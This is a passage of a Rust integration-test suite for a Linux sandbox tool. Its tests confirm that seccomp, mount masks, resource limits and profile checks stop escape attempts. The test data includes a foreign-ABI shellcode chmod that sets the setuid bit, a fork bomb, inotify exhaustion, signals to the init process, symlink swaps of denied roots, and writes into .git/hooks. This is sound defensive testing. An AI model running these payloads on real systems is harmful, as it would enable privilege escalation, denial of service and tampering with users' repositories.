        let o = Command::new("/usr/bin/setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(area.ws.join("suid-id"))
            .arg("-u")
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&o.stdout), "65534\n", "{}", String::from_utf8_lossy(&o.stderr));
    }
    // The controls: ordinary modes, +x, and cp -p of a normal file keep working.
    fs::write(area.ws.join("normal"), "n\n").unwrap();
    fs::set_permissions(area.ws.join("normal"), fs::Permissions::from_mode(0o640)).unwrap();
    let o = run(
        "chmod 755 suid-id && chmod 644 suid-id && chmod +x suid-id && cp -p normal copy && stat -c %a suid-id copy",
    );
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "755\n640\n");
}

/// Python that makes one foreign-ABI chmod 04755 of `argv[2]`: `i386` through `int 0x80` (the
/// compat ABI, where chmod is 15), `x32` with the x32 bit in the number; prints the result.
const FOREIGN_CHMOD_PY: &str = r#"
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
if sys.argv[1] == "x32":
    r = libc.syscall(ctypes.c_long(0x40000000 | 90), sys.argv[2].encode(), ctypes.c_long(0o4755))
    print("x32 chmod:", r, ctypes.get_errno(), flush=True)
    sys.exit(0)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
page = libc.mmap(None, 4096, 7, 0x02 | 0x20 | 0x40, -1, 0)
path = sys.argv[2].encode() + b"\0"
ctypes.memmove(page + 2048, path, len(path))
code = (b"\x53\xb8" + struct.pack("<I", 15) + b"\xbb" + struct.pack("<I", page + 2048)
        + b"\xb9" + struct.pack("<I", 0o4755) + b"\xcd\x80\x5b\x48\x63\xc0\xc3")
ctypes.memmove(page, code, len(code))
print("i386 chmod:", ctypes.CFUNCTYPE(ctypes.c_long)(page)(), flush=True)
"#;

/// Issue 12 classes 2, 4 and 9: the seccomp rules are written for x86_64 numbers, so an i386
/// (`int 0x80`) or x32 chmod would pass a set-id mode past them. Through the CLI each kills the
/// workload (exit 159, SIGSYS) and the file stays 0644 on the host. Control: the same i386 call
/// on the host sets 04755 (this host's kernel runs i386 code; without IA32 emulation the test
/// says so and checks only that the run fails and the file is unchanged).
#[test]
fn foreign_abi_chmod_is_killed_and_plants_nothing() {
    use std::os::unix::fs::PermissionsExt;
    if !cfg!(target_arch = "x86_64") || !std::path::Path::new("/usr/bin/python3").exists() {
        eprintln!(
            "!!!!!!!! not x86_64 or no /usr/bin/python3: foreign_abi_chmod_is_killed_and_plants_nothing cannot run !!!!!!!!"
        );
        return;
    }
    if !sandbox_runs_here("foreign_abi_chmod_is_killed_and_plants_nothing") {
        return;
    }
    let area = Area::new();
    fs::write(area.ws.join("foreign.py"), FOREIGN_CHMOD_PY).unwrap();
    let control = area.dir.path().join("host-control");
    fs::write(&control, "x\n").unwrap();
    fs::set_permissions(&control, fs::Permissions::from_mode(0o644)).unwrap();
    let host = Command::new("python3").arg(area.ws.join("foreign.py")).arg("i386").arg(&control).output().unwrap();
    let ia32 = String::from_utf8_lossy(&host.stdout) == "i386 chmod: 0\n";
    if ia32 {
        let mode = fs::metadata(&control).unwrap().permissions().mode() & 0o7777;
        assert_eq!(mode, 0o4755, "the host control: an i386 chmod sets the bit unconfined");
    } else {
        eprintln!("!!!!!!!! this kernel runs no i386 syscalls: {host:?} !!!!!!!!");
    }
    let x32 = Command::new("python3").arg(area.ws.join("foreign.py")).arg("x32").arg(&control).output().unwrap();
    eprintln!("host x32: {}", String::from_utf8_lossy(&x32.stdout).trim());
    for abi in ["i386", "x32"] {
        let target = area.ws.join(format!("{abi}-target"));
        fs::write(&target, "x\n").unwrap();
        fs::set_permissions(&target, fs::Permissions::from_mode(0o644)).unwrap();
        let o = area.sandbox(&refs(&[
            os("run"),
            os("--"),
            os("python3"),
            os("foreign.py"),
            os(abi),
            target.clone().into_os_string(),
        ]));
        if ia32 || abi == "x32" {
            assert_eq!(o.status.code(), Some(128 + 31), "{abi}: {o:?}");
        } else {
            assert_ne!(o.status.code(), Some(0), "{abi}: {o:?}");
        }
        assert_eq!(String::from_utf8_lossy(&o.stdout), "", "{abi}: the call returned: {o:?}");
        let mode = fs::metadata(&target).unwrap().permissions().mode() & 0o7777;
        assert_eq!(mode, 0o644, "{abi}: the chmod went through");
    }
}

/// Issue 12 class 4a through the CLI: a host listener on a path-named unix socket in the
/// workspace hears nothing by default (socket(AF_UNIX) is refused, the report says
/// `unix-sockets: enforced`); a profile with `unix_sockets: allow` reaches it and the report says
/// `widened` (the control).
#[test]
fn a_host_unix_socket_is_reached_only_when_the_profile_allows_it() {
    use std::io::Read;
    if !sandbox_runs_here("a_host_unix_socket_is_reached_only_when_the_profile_allows_it") {
        return;
    }
    if !std::path::Path::new("/usr/bin/python3").exists() {
        eprintln!(
            "!!!!!!!! /usr/bin/python3 missing: cli::a_host_unix_socket_is_reached_only_when_the_profile_allows_it cannot run !!!!!!!!"
        );
        return;
    }
    let area = Area::new();
    let listener = std::os::unix::net::UnixListener::bind(area.ws.join("h.sock")).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('h.sock')\ns.sendall(b'from inside')\nprint('sent')";
    let heard = || {
        let mut got = String::new();
        if let Ok((mut c, _)) = listener.accept() {
            c.set_nonblocking(false).unwrap();
            let _ = c.read_to_string(&mut got);
        }
        got
    };
    let o = area.sandbox(&refs(&[os("run"), os("--report"), os("--"), os("/usr/bin/python3"), os("-c"), os(script)]));
    assert_ne!(o.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&o.stderr).contains("PermissionError"), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(report_entry(&o.stderr, "unix-sockets")["status"], "enforced");
    assert_eq!(report_entry(&o.stderr, "network-boundary")["status"], "enforced");
    assert_eq!(heard(), "");
    let profile = area.dir.path().join("p.json");
    fs::write(
        &profile,
        format!(
            r#"{{"workspace_root": "{}", "workspace_read": "allow", "workspace_write": "allow", "host_read": "allow", "command": "allow", "unix_sockets": "allow"}}"#,
            area.ws.display()
        ),
    )
    .unwrap();
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--report"),
        os("--profile"),
        profile.into_os_string(),
        os("--"),
        os("/usr/bin/python3"),
        os("-c"),
        os(script),
    ]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(o.stdout, b"sent\n");
    let unix = report_entry(&o.stderr, "unix-sockets");
    assert_eq!(unix["status"], "widened", "{unix}");
    assert!(report_entry(&o.stderr, "network-boundary")["detail"].as_str().unwrap_or("").contains("unix sockets"));
    assert_eq!(heard(), "from inside");
}

/// Issue 12, class 13: `--cpus` and `--cpu-weight` out of range, non-finite or unparsable name
/// their flag and write nothing; in range, the run works and the report states the CPU weight
/// and bound (the library test `linux_abuse::a_cpu_bound_holds_and_its_absence_does_not_bound`
/// reads them back from the cgroup).
#[test]
fn cpu_flags_are_checked_and_reported() {
    let area = Area::new();
    let before = area.snapshot();
    for (flag, value, code) in [
        ("--cpus", "0", 2),
        ("--cpus", "0.001", 2),
        ("--cpus", "-1", 2),
        ("--cpus", "NaN", 2),
        ("--cpus", "inf", 2),
        ("--cpus", "1001", 2),
        ("--cpus", "", 2),
        ("--cpu-weight", "0", 2),
        ("--cpu-weight", "10001", 2),
        ("--cpu-weight", "70000", 2),
        ("--cpu-weight", "-5", 2),
    ] {
        let pair = format!("{flag}={value}");
        let args = [os("run"), os("--scratch"), os("../scratch"), os(&pair), os("--"), os("/bin/true")];
        let o = area.sandbox(&refs(&args));
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(code), "{flag} {value:?}: {err}");
        assert!(err.contains(flag) && !err.contains("panicked"), "{flag} {value:?}: {err}");
    }
    assert_eq!(area.snapshot(), before, "a refused value wrote something");
    if !sandbox_runs_here("cpu_flags_are_checked_and_reported") {
        return;
    }
    let args = [
        os("run"),
        os("--scratch"),
        os("../scratch"),
        os("--json"),
        os("--cpus"),
        os("0.5"),
        os("--cpu-weight"),
        os("20"),
        os("--"),
        os("/bin/echo"),
        os("ok"),
    ];
    let o = area.sandbox(&refs(&args));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["stdout"], "ok\n", "{v}");
    report_states_cpu_weight_20_and_half_a_cpu(&v);
}

/// The `resource-limits` entry of a `--json` answer's report states the weight 20 and the bound
/// of 0.5 CPUs (where limits are enforced; otherwise it says so, loudly).
fn report_states_cpu_weight_20_and_half_a_cpu(v: &serde_json::Value) {
    let limits = v["report"].as_array().unwrap().iter().find(|e| e["feature"] == "resource-limits").unwrap();
    let detail = limits["detail"].as_str().unwrap();
    if limits["status"] == "enforced" {
        assert!(detail.contains("cpu weight 20 ") && detail.contains("cpu max 0.500 cpus"), "{detail}");
    } else {
        eprintln!("!!!!!!!! resource-limits not enforced here: {detail} !!!!!!!!");
    }
}

/// `sandbox serve` in the area with `flag` (its name and value) and no input.
fn serve_with_flag(area: &Area, flag: [&str; 2]) -> std::process::Output {
    Command::new(SANDBOX)
        .current_dir(&area.ws)
        .arg("serve")
        .args(flag)
        .arg("--scratch")
        .arg(&area.scratch)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

/// `sandbox serve` with a `flag` (its name and value) the library refuses answers one error
/// line (id null, `invalid_argument`) whose message names the flag, and exits 125.
fn serve_answers_bad_flag(area: &Area, flag: [&str; 2]) {
    let o = serve_with_flag(area, flag);
    assert_eq!(o.status.code(), Some(125), "{flag:?}: {}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).starts_with(r#"{"id":null,"#), "the id first");
    let v = run_json(&o);
    assert_eq!((v["id"].is_null(), &v["error"]), (true, &serde_json::json!("invalid_argument")), "{v}");
    assert!(v["message"].as_str().is_some_and(|m| m.contains(flag[0])), "{flag:?}: {v}");
}

/// `sandbox serve` with a bad `flag` (its name and value) is a usage error: exit 2, clap's
/// message naming the flag on stderr, nothing on stdout.
fn serve_refuses_flag(area: &Area, flag: [&str; 2]) {
    let o = serve_with_flag(area, flag);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{flag:?}: {err}");
    assert!(err.contains(&format!("invalid value '{}' for '{}", flag[1], flag[0])), "{flag:?}: {err}");
    assert!(o.stdout.is_empty(), "{flag:?}");
}

/// `sandbox serve` takes `--cpus` and `--cpu-weight` as `run` does: a bad value is a usage
/// error naming its flag, exit 2, nothing written; good ones reach every run (the answer's
/// report states them) and the run works.
#[test]
fn serve_takes_the_cpu_flags() {
    use std::io::Write;
    let area = Area::new();
    let before = area.snapshot();
    for flag in [["--cpu-weight", "0"], ["--cpus", "0.001"], ["--cpus", "NaN"], ["--max-executors", "0"]] {
        serve_refuses_flag(&area, flag);
    }
    assert_eq!(area.snapshot(), before, "a refused value wrote something");
    if !sandbox_runs_here("serve_takes_the_cpu_flags") {
        return;
    }
    let flags = [os("--cpus"), os("0.5"), os("--cpu-weight"), os("20")];
    let (mut child, mut stdin, mut lines) = spawn_serve(&area, &flags);
    writeln!(stdin, r#"{{"id": 1, "argv": ["/bin/echo", "ok"]}}"#).unwrap();
    let v: serde_json::Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
    assert_eq!((&v["id"], &v["stdout"]), (&serde_json::json!(1), &serde_json::json!("ok\n")), "{v}");
    report_states_cpu_weight_20_and_half_a_cpu(&v);
    drop(stdin);
    assert!(child.wait().unwrap().success());
}

/// Issue 12, class 10, through the CLI: a run creates inotify instances until refused and stops
/// at its own bound (16, EMFILE), while this (host) process of the same uid still creates them
/// afterwards and the run's report states the bound. Control: the run's first instances work.
#[test]
fn a_run_stops_at_its_inotify_bound() {
    if !sandbox_runs_here("a_run_stops_at_its_inotify_bound") {
        return;
    }
    let area = Area::new();
    // At most argv[1] instances (the host check takes 20, never all of the uid's).
    let hog = "import ctypes, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nfds = []\n\
               limit = int(sys.argv[1]) if len(sys.argv) > 1 else 100000\nwhile len(fds) < limit:\n    \
               fd = libc.inotify_init()\n    if fd < 0:\n        break\n    fds.append(fd)\n\
               print(len(fds), ctypes.get_errno())\n";
    let args = [os("run"), os("--scratch"), os("../scratch"), os("--json"), os("--"), os("python3"), os("-c"), os(hog)];
    let o = area.sandbox(&refs(&args));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["stdout"], "16 24\n", "{v}");
    let limits = v["report"].as_array().unwrap().iter().find(|e| e["feature"] == "resource-limits").unwrap();
    if limits["status"] == "enforced" {
        assert!(limits["detail"].as_str().unwrap().contains("inotify 16 instances"), "{limits}");
    }
    // A host process of the same uid still gets instances (the run is over, so this shows the
    // run held none beyond its life either).
    let host = Command::new("python3").args(["-c", hog, "20"]).output().unwrap();
    let text = String::from_utf8_lossy(&host.stdout);
    assert!(text.starts_with("20 "), "the host uid got fewer than 20 instances: {text}");
}

/// Issue 12, class 13, through the CLI: a shell fork bomb under `--timeout 3` ends with exit 125
/// (`deadline_exceeded`) within seconds of its timeout and leaves no process; the report states
/// the low CPU weight. Control: forking works in the same run shape.
#[test]
fn a_fork_bomb_ends_at_its_timeout_and_leaves_nothing() {
    if !sandbox_runs_here("a_fork_bomb_ends_at_its_timeout_and_leaves_nothing") {
        return;
    }
    let area = Area::new();
    let control =
        [os("run"), os("--scratch"), os("../scratch"), os("--"), os("sh"), os("-c"), os("sh -c 'echo forked'")];
    assert_eq!(area.sandbox(&refs(&control)).stdout, b"forked\n");
    let marker = format!("sbx-cli-bomb-{}", std::process::id());
    let bomb = format!("(f() {{ f | f & }}; f); while :; do :; done; : {marker}");
    let args = [
        os("run"),
        os("--scratch"),
        os("../scratch"),
        os("--json"),
        os("--timeout"),
        os("3"),
        os("--"),
        os("sh"),
        os("-c"),
        os(&bomb),
    ];
    let start = std::time::Instant::now();
    let o = area.sandbox(&refs(&args));
    let elapsed = start.elapsed();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(o.status.code(), Some(125));
    assert_eq!(v["error"], "deadline_exceeded", "{}", v["error"]);
    assert!(elapsed < std::time::Duration::from_secs(15), "the bomb outlived its timeout: {elapsed:?}");
    let limits = v["report"].as_array().unwrap().iter().find(|e| e["feature"] == "resource-limits").unwrap();
    if limits["status"] == "enforced" {
        assert!(limits["detail"].as_str().unwrap().contains("cpu weight 10 "), "{limits}");
    }
    let left = fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| fs::read(e.path().join("cmdline")).is_ok_and(|c| String::from_utf8_lossy(&c).contains(&marker)))
        .count();
    assert_eq!(left, 0, "bomb processes survived the run");
}

/// Writes the issue's `P(roots…)` profile (workspace read-write, host read deny) into the area
/// and returns its path.
fn roots_profile(area: &Area, name: &str, roots: &[(&std::path::Path, &str, &str)]) -> std::path::PathBuf {
    let roots: Vec<serde_json::Value> = roots
        .iter()
        .map(|(p, r, w)| serde_json::json!({"path": p.display().to_string(), "read": r, "write": w}))
        .collect();
    let profile = serde_json::json!({
        "workspace_root": area.ws.display().to_string(),
        "workspace_read": "allow",
        "workspace_write": "allow",
        "host_read": "deny",
        "command": "allow",
        "additional_roots": roots,
    });
    let file = area.dir.path().join(name);
    fs::write(&file, profile.to_string()).unwrap();
    file
}

fn run_sh(area: &Area, profile: &std::path::Path, script: &str) -> std::process::Output {
    area.sandbox(&refs(&[
        os("run"),
        os("--scratch"),
        os("../scratch"),
        os("--profile"),
        profile.as_os_str().to_owned(),
        os("--"),
        os("/bin/sh"),
        os("-c"),
        os(script),
    ]))
}

/// Issue 12, 1a-1c through the CLI, which loads the same profile file for every run: run 1
/// cannot rename, remove or replace a nested deny root, a read-only `.git/hooks` or their
/// ancestors (positive control: ordinary entries move freely), so run 2 reads nothing; a root
/// replaced by a symlink between runs (by the host) is refused before anything runs.
#[test]
fn nested_roots_survive_their_runs_through_the_cli() {
    if !sandbox_runs_here("nested_roots_survive_their_runs_through_the_cli") {
        return;
    }
    let area = Area::new();
    fs::create_dir_all(area.ws.join("cfg/secrets")).unwrap();
    fs::write(area.ws.join("cfg/secrets/key"), "TOP\n").unwrap();
    fs::create_dir_all(area.ws.join(".git/hooks")).unwrap();
    fs::write(area.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    fs::create_dir_all(area.ws.join("a/ro")).unwrap();
    let (secrets, hooks, ro) = (area.ws.join("cfg/secrets"), area.ws.join(".git/hooks"), area.ws.join("a/ro"));
    let p = roots_profile(
        &area,
        "p.json",
        &[(&secrets, "deny", "deny"), (&hooks, "allow", "deny"), (&ro, "allow", "deny")],
    );
    let o = run_sh(
        &area,
        &p,
        "for c in 'mv cfg cfg-moved' 'mkdir -p cfg2 && mv -T cfg2 cfg' 'mv .git .git-real' 'rmdir cfg/secrets' \
         'mv a a-old' 'ln -sfn / a/ro' 'echo x >> .git/hooks/pre-commit'; do \
           (eval \"$c\") >/dev/null 2>&1 && echo \"ESCAPED: $c\"; done; \
         mkdir d && mv d d2 && rmdir d2 && echo controls-ok",
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{out} {}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(out, "controls-ok\n");
    let o = run_sh(&area, &p, "cat cfg-moved/secrets/key cfg/secrets/key .git-real/hooks/pre-commit 2>&1; true");
    assert!(!String::from_utf8_lossy(&o.stdout).contains("TOP"), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(fs::read_to_string(area.ws.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\n");
    // The host replaces the read-only root by a symlink to / between runs: refused, nothing runs.
    fs::rename(area.ws.join("a"), area.ws.join("a-old")).unwrap();
    fs::create_dir(area.ws.join("a")).unwrap();
    std::os::unix::fs::symlink("/", &ro).unwrap();
    let o = run_sh(&area, &p, "touch ran; cat a/ro/etc/hostname");
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(
        err.starts_with("sandbox: invalid profile") && err.contains("additional_roots[") && err.contains("symlink"),
        "{err}"
    );
    assert!(o.stdout.is_empty() && !area.ws.join("ran").exists());
}

/// Issue 12, class 1 through the CLI: the init ties each pinned ancestor's mount to its name
/// and retries while the parent changes. Another `sandbox run` (the default profile: the same
/// workspace writable, no roots) creates and removes files in the workspace root in a loop,
/// so the parent of the pinned `cfg` changes all the time; every run of the profile with the
/// nested deny root must still run (and read nothing of the root). With the former bound of 16
/// attempts about half of these runs failed with "its parent kept changing". Positive control:
/// the churner ran all along (its count), and each run reads a plain file beside the root.
#[test]
fn runs_with_nested_roots_work_while_another_run_churns_the_workspace() {
    if !sandbox_runs_here("runs_with_nested_roots_work_while_another_run_churns_the_workspace") {
        return;
    }
    let area = Area::new();
    fs::create_dir_all(area.ws.join("cfg/secrets")).unwrap();
    fs::write(area.ws.join("cfg/secrets/key"), "TOP\n").unwrap();
    fs::write(area.ws.join("cfg/plain"), "plain\n").unwrap();
    let secrets = area.ws.join("cfg/secrets");
    let p = roots_profile(&area, "p.json", &[(&secrets, "deny", "deny")]);
    fs::create_dir(area.ws.join("../scratch2")).unwrap();
    let churn = "import os,time\nopen('started','w').close()\nt=time.time(); n=0\n\
                 while time.time()-t<15:\n  fd=os.open('churn',os.O_CREAT|os.O_WRONLY); os.close(fd); \
                 os.unlink('churn'); n+=1\nos.unlink('started')\nprint(n)\n";
    let churner = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args(["run", "--scratch", "../scratch2", "--timeout", "60", "--", "python3", "-c", churn])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let waited = std::time::Instant::now();
    while !area.ws.join("started").exists() {
        assert!(waited.elapsed() < std::time::Duration::from_secs(30), "the churner never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let mut failed = Vec::new();
    let mut ran = 0;
    let end = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while std::time::Instant::now() < end && ran + failed.len() < 12 {
        let o = run_sh(&area, &p, "cat cfg/plain; cat cfg/secrets/key 2>/dev/null || echo masked");
        if o.status.code() == Some(0) {
            assert_eq!(String::from_utf8_lossy(&o.stdout), "plain\nmasked\n");
            ran += 1;
        } else {
            failed.push(String::from_utf8_lossy(&o.stderr).into_owned());
        }
    }
    let out = churner.wait_with_output().unwrap();
    let count: u64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap_or(0);
    eprintln!("{ran} runs ran, {} failed, while the churner made {count} changes", failed.len());
    assert!(count > 10_000, "the churner did not run: {count} {}", String::from_utf8_lossy(&out.stderr));
    assert!(failed.is_empty(), "runs failed under a churned parent: {failed:?}");
    assert!(ran >= 4, "too few runs: {ran}");
}

/// Issue 12, class 1 through the CLI: a host mount that shows the workspace (or a directory
/// inside it) at a second path. Before, the deny root was masked at its own path only, so
/// `cat <alias>/cfg/secrets/key` printed the secret under host read allow, and a read-only
/// `.git/hooks` was writable through a bind of `.git` inside the workspace. Now every alias the
/// plan makes visible gets the root's mask or read-only bind. Positive controls: the same
/// aliases read (and, inside the workspace, write) ordinary files. Root only: the aliases are
/// bind mounts in a private mount namespace (`unshare -m`), which an unprivileged caller cannot
/// make on the host.
#[test]
fn a_root_visible_at_a_host_bind_alias_is_guarded_there_too() {
    if !sandbox_runs_here("a_root_visible_at_a_host_bind_alias_is_guarded_there_too") {
        return;
    }
    if !nix::unistd::geteuid().is_root() {
        eprintln!(
            "!!!!!!!! SKIPPED cli::a_root_visible_at_a_host_bind_alias_is_guarded_there_too: needs root (bind mounts) !!!!!!!!"
        );
        return;
    }
    let area = Area::new();
    fs::create_dir_all(area.ws.join("cfg/secrets")).unwrap();
    fs::write(area.ws.join("cfg/secrets/key"), "TOP\n").unwrap();
    fs::write(area.ws.join("cfg/plain"), "plain\n").unwrap();
    fs::create_dir_all(area.ws.join(".git/hooks")).unwrap();
    fs::write(area.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    fs::create_dir(area.ws.join("galias")).unwrap();
    let alias = area.dir.path().join("alias");
    fs::create_dir(&alias).unwrap();
    let (secrets, hooks) = (area.ws.join("cfg/secrets"), area.ws.join(".git/hooks"));
    let file = area.dir.path().join("p.json");
    let roots = serde_json::json!([
        {"path": secrets.display().to_string(), "read": "deny", "write": "deny"},
        {"path": hooks.display().to_string(), "read": "allow", "write": "deny"},
    ]);
    let profile = serde_json::json!({
        "workspace_root": area.ws.display().to_string(),
        "workspace_read": "allow",
        "workspace_write": "allow",
        "host_read": "allow",
        "command": "allow",
        "additional_roots": roots,
    });
    fs::write(&file, profile.to_string()).unwrap();
    let a = alias.display().to_string();
    let script = format!(
        "cat {a}/cfg/plain galias/hooks/pre-commit && echo new > galias/new && echo controls-ok; \
         for f in cfg/secrets/key {a}/cfg/secrets/key; do cat $f 2>/dev/null && echo \"ESCAPED: read $f\"; done; \
         (echo evil >> galias/hooks/pre-commit) 2>/dev/null && echo 'ESCAPED: wrote galias/hooks'; \
         (echo evil > galias/hooks/new) 2>/dev/null && echo 'ESCAPED: created in galias/hooks'; true"
    );
    let outer = format!(
        "mount --bind {ws} {a} && mount --bind {ws}/.git {ws}/galias && exec {sbx} run --scratch ../scratch \
         --profile {p} -- /bin/sh -c \"$0\"",
        ws = area.ws.display(),
        sbx = SANDBOX,
        p = file.display()
    );
    let o = Command::new("unshare")
        .current_dir(&area.ws)
        .args(["-m", "--propagation", "private", "/bin/sh", "-c", &outer, &script])
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{out} {}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(out, "plain\n#!/bin/sh\ncontrols-ok\n", "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(fs::read_to_string(hooks.join("pre-commit")).unwrap(), "#!/bin/sh\n");
    assert_eq!(fs::read_to_string(area.ws.join(".git/new")).unwrap(), "new\n");
    assert!(!hooks.join("new").exists());
}

/// Issue 12, 1d and 11 through the CLI: a root through a symlink, and a root exactly at a path
/// the sandbox always makes private, are refused naming the root, before anything is written.
/// Positive control: the real path, and a root under /tmp, run.
#[test]
fn symlinked_and_always_private_roots_are_refused_by_the_cli() {
    let area = Area::new();
    fs::create_dir(area.ws.join("decoy")).unwrap();
    std::os::unix::fs::symlink(area.ws.join("decoy"), area.ws.join(".codex")).unwrap();
    let before = area.snapshot();
    let codex = area.ws.join(".codex");
    let cases: Vec<(std::path::PathBuf, String)> = [
        (codex.clone(), String::from("symlink")),
        (std::path::PathBuf::from("/tmp"), String::from("private")),
        (std::path::PathBuf::from("/dev/shm"), String::from("private")),
        (std::path::PathBuf::from("/proc"), String::from("private")),
        (std::path::PathBuf::from("/proc/self"), String::from("/proc")),
    ]
    .into_iter()
    .filter(|(p, _)| p.exists())
    .collect();
    for (i, (path, why)) in cases.iter().enumerate() {
        for (r, w) in [("deny", "deny"), ("allow", "allow")] {
            let p = roots_profile(&area, &format!("p{i}.json"), &[(path, r, w)]);
            let o = run_sh(&area, &p, "touch ran");
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(125), "{}: {err}", path.display());
            assert!(err.starts_with("sandbox: invalid profile") && err.contains("additional_roots[0].path"), "{err}");
            assert!(err.contains(why.as_str()), "{}: {err}", path.display());
            fs::remove_file(&p).unwrap();
        }
    }
    assert_eq!(area.snapshot(), before, "a refused profile wrote something");
    if !sandbox_runs_here("symlinked_and_always_private_roots_are_refused_by_the_cli") {
        return;
    }
    let tmp = tempfile::Builder::new().prefix("sbx-cli").tempdir_in("/tmp").unwrap();
    let t = fs::canonicalize(tmp.path()).unwrap();
    fs::write(t.join("f"), "under tmp\n").unwrap();
    let p = roots_profile(&area, "ok.json", &[(&area.ws.join("decoy"), "allow", "deny"), (&t, "allow", "deny")]);
    let o = run_sh(&area, &p, &format!("cat {}/f; (echo x > decoy/f) 2>/dev/null || echo decoy-ro", t.display()));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "under tmp\ndecoy-ro\n", "{}", String::from_utf8_lossy(&o.stderr));
}

/// Issue 12, class 8: a HOME deeper than PATH_MAX (the issue's own loop; a shell's `cd` stops
/// near PATH_MAX) does not replace the workload's status with a clean-up error, and leaves no
/// set directory. Control: the same loop bounded to a shallow tree.
#[test]
fn a_home_deeper_than_path_max_keeps_the_status_and_leaves_no_set() {
    if !sandbox_runs_here("a_home_deeper_than_path_max_keeps_the_status_and_leaves_no_set") {
        return;
    }
    let area = Area::new();
    for (command, code) in [
        ("cd $HOME; while mkdir d && cd d; do :; done", 0),
        ("cd $HOME; while mkdir d && cd d; do :; done; pwd | wc -c; exit 7", 7),
        ("cd $HOME; i=0; while [ $i -lt 20 ] && mkdir d && cd d; do i=$((i+1)); done; exit 5", 5),
    ] {
        let o = area.sandbox(&refs(&[
            os("run"),
            os("--scratch"),
            area.scratch.clone().into_os_string(),
            os("--"),
            os("sh"),
            os("-c"),
            os(command),
        ]));
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(code), "{command}: {err}");
        assert!(!err.contains("sandbox:"), "{command}: {err}");
        if code == 7 {
            let depth_bytes: usize = String::from_utf8_lossy(&o.stdout).trim().parse().unwrap();
            assert!(depth_bytes > 4000, "the tree is only {depth_bytes} bytes deep");
        }
        let left: Vec<_> = fs::read_dir(&area.scratch).unwrap().flatten().map(|e| e.file_name()).collect();
        assert!(left.is_empty(), "{command}: left in the scratch root: {left:?}");
    }
}

/// Issue 12, class 5, through the CLI: the workload signals pid 1 with every signal it may
/// send and tries to write the init's status pipe; the run still exits with the workload's own
/// status and prints its output. Control: the workload's signal to its own child works.
#[test]
fn signals_and_writes_to_the_init_change_nothing() {
    if !sandbox_runs_here("signals_and_writes_to_the_init_change_nothing") {
        return;
    }
    let area = Area::new();
    let script = "import os, signal, subprocess, time\n\
                  try:\n    os.open('/proc/1/fd/3', os.O_WRONLY); print('opened')\n\
                  except OSError as e:\n    print('status pipe', e.errno)\n\
                  for s in range(1, 65):\n    s in (9, 19) or os.kill(1, s)\n\
                  c = subprocess.Popen(['sleep', '30']); os.kill(c.pid, signal.SIGTERM); print('child', c.wait())\n\
                  time.sleep(0.3); print('alive'); raise SystemExit(7)\n";
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--scratch"),
        area.scratch.clone().into_os_string(),
        os("--"),
        os("python3"),
        os("-c"),
        os(script),
    ]));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(7), "{out} {}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(out, "status pipe 13\nchild -15\nalive\n");
}

/// Issue 12, class 6, through the CLI: `sandbox run --scratch` on a scratch root where a
/// workload planted dead-looking sets (a cgroup parent climbing to a fake `cgroup.procs` naming
/// a host process, FIFOs as the lock and the parent file, a state that is a symlink)
/// kills nothing, does not hang, and runs. A scratch root inside the writable workspace is
/// refused naming `scratch_root`; the control beside it runs.
#[test]
fn planted_dead_sets_and_a_writable_scratch_root() {
    if !sandbox_runs_here("planted_dead_sets_and_a_writable_scratch_root") {
        return;
    }
    let area = Area::new();
    let root = area.ws.parent().unwrap().to_path_buf();
    let mut victim = Command::new("sleep").arg("1000.333").spawn().unwrap();
    let fake = root.join("fake/sbx-0000dead-1");
    fs::create_dir_all(&fake).unwrap();
    // Only the sacrificial process (`-1` is refused by a unit test of the pid parser, never
